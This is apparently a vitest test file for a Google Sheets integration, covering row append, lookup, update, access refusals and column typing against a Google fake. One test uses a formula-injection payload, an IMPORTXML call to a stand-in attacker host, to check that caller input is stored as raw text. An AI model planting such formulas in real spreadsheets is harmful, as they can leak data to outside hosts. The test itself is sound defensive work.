/**
 * Google Sheets actions called directly (provider.execute) against the Google fake: rows appended,
 * looked up and updated by header, sheets Google will not show refused as sheet_not_accessible,
 * and discovery typing columns from sampled values.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { AppError } from '../src/errors.ts';
import {
  describeSpreadsheet,
  GOOGLE_SHEETS_SCOPES,
  googleSheets,
} from '../src/providers/google-sheets/index.ts';
import type { ProviderContext } from '../src/providers/types.ts';
import { type GoogleTestbed, startGoogleTestbed } from './support/google-fake.ts';

let bed: GoogleTestbed;
let ctx: ProviderContext;
let sheetId: string;

beforeAll(async () => {
  bed = await startGoogleTestbed(GOOGLE_SHEETS_SCOPES);
});
afterAll(() => bed.close());
beforeEach(() => {
  ctx = bed.account();
  sheetId = bed.fake.seed.spreadsheet({
    owner: bed.email,
    title: 'Leads',
    sheets: [
      {
        title: 'Leads 2030',
        values: [
          ['Name', 'Phone', 'Email', 'Status'],
          ['Sam Lee', '+1 (212) 555-0101', 'sam@example.com', 'new'],
          ['Ana Ruiz', '212 555 0102', 'ana@example.com', 'won'],
          ['Bo Chen', '212 555 0103', 'bo@example.com', 'new'],
          ['Bo Chen', '646 555 0104', 'bo2@example.com', 'new'],
        ],
      },
      { title: 'Archive', values: [['Old']] },
    ],
  }).spreadsheetId;
});

const run = (action: string, args: Record<string, unknown>, config: Record<string, unknown> = {}) =>
  googleSheets.execute!(
    {},
    { action, arguments: args, config: { spreadsheet: sheetId, ...config }, connectionId: 'c1' },
    ctx,
  ) as Promise<any>;
const failure = async (p: Promise<unknown>): Promise<AppError> => {
  const e = await p.then(
    () => undefined,
    (err) => err,
  );
  expect(e, 'expected a failure').toBeInstanceOf(AppError);
  return e as AppError;
};
const cells = (tab = 'Leads 2030') =>
  bed.fake.state.spreadsheets.get(sheetId)!.sheets.find((s) => s.title === tab)!.cells;

describe('append_row', () => {
  test('cells named by header land in their columns, whatever the order given', async () => {
    const res = await run('append_row', {
      values: [
        { column: 'Status', value: 'new' },
        { column: 'name', value: 'Kim Park' },
        { column: 'Phone', value: '+1 917 555 0100' },
      ],
    });
    expect(res).toMatchObject({ appended: true, tab: 'Leads 2030', row_number: 6 });
    expect(cells()[5]).toEqual(['Kim Park', '+1 917 555 0100', null, 'new']);
  });

  test('a column mapping lets parameters name columns; a URL works as the spreadsheet', async () => {
    const config = {
      spreadsheet: `https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=0`,
      column_mapping: { caller_name: 'Name', caller_phone: 'Phone' },
    };
    const res = await run(
      'append_row',
      {
        values: [
          { column: 'caller_name', value: 'Lu Wei' },
          { column: 'caller_phone', value: '555 0199' },
        ],
      },
      config,
    );
    expect(res.row).toMatchObject({ caller_name: 'Lu Wei', caller_phone: '555 0199', Email: null });
    expect(cells()[5].slice(0, 2)).toEqual(['Lu Wei', '555 0199']);
  });

  test('flat arguments (an operator-edited schema) name columns too', async () => {
    await run(
      'append_row',
      { caller_name: 'Flat Arg', Status: 'new' },
      { column_mapping: JSON.stringify({ caller_name: 'Name' }) },
    );
    expect(cells()[5]).toEqual(['Flat Arg', null, null, 'new']);
  });

  test('what a caller says is stored as text, never as a formula', async () => {
    await run('append_row', {
      values: [{ column: 'Name', value: '=IMPORTXML("http://evil.example","//a")' }],
    });
    expect(cells()[5][0]).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(bed.fake.log.matching('/v4/', 'POST').at(-1)?.query).toMatchObject({ valueInputOption: 'RAW' });
  });

  test('an unknown column is refused with the known ones, nothing written', async () => {
    const e = await failure(run('append_row', { values: [{ column: 'Shoe size', value: '42' }] }));
    expect(e.code).toBe('validation_error');
    expect(e.message).toMatch(/Name, Phone, Email, Status/);
    expect(cells()).toHaveLength(5);
  });
});

describe('lookup_row', () => {
  test('phone numbers match whatever their formatting; the first column is the default key', async () => {
    const byPhone = await run('lookup_row', { key_value: '212-555-0101', key_column: 'Phone' });
    expect(byPhone).toMatchObject({
      found: true,
      match_count: 1,
      matches: [{ row_number: 2, Name: 'Sam Lee', Status: 'new' }],
    });
    const byName = await run('lookup_row', { key_value: 'bo chen', key_column: null });
    expect(byName.match_count).toBe(2);
    expect(byName.matches.map((m: any) => m.row_number)).toEqual([4, 5]);
  });

  test('the configured key column and mapping shape the answer', async () => {
    const res = await run(
      'lookup_row',
      { key_value: 'ANA@example.com', key_column: null },
      { key_column: 'caller_email', column_mapping: { caller_email: 'Email' } },
    );
    expect(res.matches[0]).toMatchObject({ Name: 'Ana Ruiz', caller_email: 'ana@example.com' });
  });

  test('no match is an answer, not an error', async () => {
    expect(await run('lookup_row', { key_value: 'Nobody', key_column: null })).toMatchObject({
      found: false,
      matches: [],
    });
  });
});

describe('update_row', () => {
  test('changes only the named cells of the one matching row', async () => {
    const res = await run('update_row', {
      key_value: '+1 212 555 0102',
      key_column: 'Phone',
      values: [{ column: 'Status', value: 'lost' }],
    });
    expect(res).toMatchObject({ updated: true, row_number: 3, row: { Name: 'Ana Ruiz', Status: 'lost' } });
    expect(cells()[2]).toEqual(['Ana Ruiz', '212 555 0102', 'ana@example.com', 'lost']);
  });

  test('several or no matching rows are refused', async () => {
    const several = await failure(
      run('update_row', {
        key_value: 'Bo Chen',
        key_column: null,
        values: [{ column: 'Status', value: 'x' }],
      }),
    );
    expect(several.code).toBe('conflict');
    const none = await failure(
      run('update_row', {
        key_value: 'Nobody',
        key_column: null,
        values: [{ column: 'Status', value: 'x' }],
      }),
    );
    expect(none.code).toBe('not_found');
  });
});

describe('sheets Google will not show', () => {
  test('unshared, unknown, or a missing tab: sheet_not_accessible', async () => {
    const foreign = bed.fake.seed.spreadsheet({
      owner: 'someone@example.com',
      title: 'Private',
    }).spreadsheetId;
    const lookup = { key_value: 'x', key_column: null };
    expect((await failure(run('lookup_row', lookup, { spreadsheet: foreign, tab: 'Sheet1' }))).code).toBe(
      'sheet_not_accessible',
    );
    expect((await failure(run('lookup_row', lookup, { spreadsheet: '1NoSuchSpreadsheetAtAll' }))).code).toBe(
      'sheet_not_accessible',
    );
    const tab = await failure(run('lookup_row', lookup, { tab: 'Nope' }));
    expect(tab.code).toBe('sheet_not_accessible');
    expect(tab.message).toMatch(/no tab named "Nope"/);
  });

  test('a reader may look up but not append', async () => {
    const shared = bed.fake.seed.spreadsheet({
      owner: 'someone@example.com',
      title: 'Shared',
      sharedWith: { [bed.email]: 'reader' },
      sheets: [{ title: 'S', values: [['A'], ['1']] }],
    }).spreadsheetId;
    expect(
      (await run('lookup_row', { key_value: '1', key_column: null }, { spreadsheet: shared })).found,
    ).toBe(true);
    expect(
      (await failure(run('append_row', { values: [{ column: 'A', value: '2' }] }, { spreadsheet: shared })))
        .code,
    ).toBe('sheet_not_accessible');
  });

  test('a missing spreadsheet setting is named', async () => {
    const e = await failure(run('lookup_row', { key_value: 'x', key_column: null }, { spreadsheet: null }));
    expect(e.extras.errors?.[0].field).toBe('executionConfig.spreadsheet');
  });
});

describe('describe and discover', () => {
  test('a URL or an id describes title, tabs and header rows', async () => {
    const d = await describeSpreadsheet(`https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=0`, ctx);
    expect(d).toMatchObject({ spreadsheetId: sheetId, title: 'Leads', selectedTab: 'Leads 2030' });
    expect(d.tabs.map((t) => [t.title, t.headers])).toEqual([
      ['Leads 2030', ['Name', 'Phone', 'Email', 'Status']],
      ['Archive', ['Old']],
    ]);
  });

  test('tabs become objects typed from their values, odd headers named', async () => {
    bed.fake.seed.spreadsheet({
      owner: bed.email,
      title: 'Orders',
      sheets: [
        {
          title: 'Q1',
          values: [
            [
              'Order #',
              'Qty',
              'Price',
              'Paid',
              'Placed',
              'At',
              'Contact',
              '',
              'Zip',
              'Qty',
              'Mobile',
              'Notes',
            ],
            [
              1001,
              2,
              '12.50',
              true,
              '2030-01-05',
              '2030-01-05 10:30',
              'a@x.io',
              'x',
              '02139',
              1,
              '212 555 0101',
              'fast',
            ],
            [
              1002,
              10,
              '1,204.00',
              false,
              '2030-01-06',
              '2030-01-06T11:00:00Z',
              'b@y.io',
              '',
              '10001',
              3,
              '+1 646 555 0000',
              7,
            ],
          ],
        },
        { title: 'Empty' },
      ],
    });
    const schema = await googleSheets.discover!({}, ctx);
    const orders = schema.objects.find((o) => o.name === 'orders.q1')!;
    expect(orders).toMatchObject({ kind: 'sheet', label: 'Orders › Q1', source: { tab: 'Q1' } });
    const types = Object.fromEntries(orders.fields.map((f) => [f.name, [f.type, f.pii]]));
    expect(types).toEqual({
      'Order #': ['integer', null],
      Qty: ['integer', null],
      Price: ['number', null],
      Paid: ['boolean', null],
      Placed: ['date', null],
      At: ['datetime', null],
      Contact: ['string', 'email'],
      column_H: ['string', null],
      Zip: ['string', 'address'],
      Qty_2: ['integer', null],
      Mobile: ['string', 'phone'],
      Notes: ['string', null],
    });
    expect(schema.objects.map((o) => o.name)).toEqual(
      expect.arrayContaining(['leads.leads_2030', 'leads.archive']),
    );
    expect(schema.objects.some((o) => o.name === 'orders.empty')).toBe(false);
    expect(schema.operations.filter((o) => o.object === 'orders.q1').map((o) => o.verb)).toEqual([
      'search',
      'insert',
      'update',
    ]);
  });
});
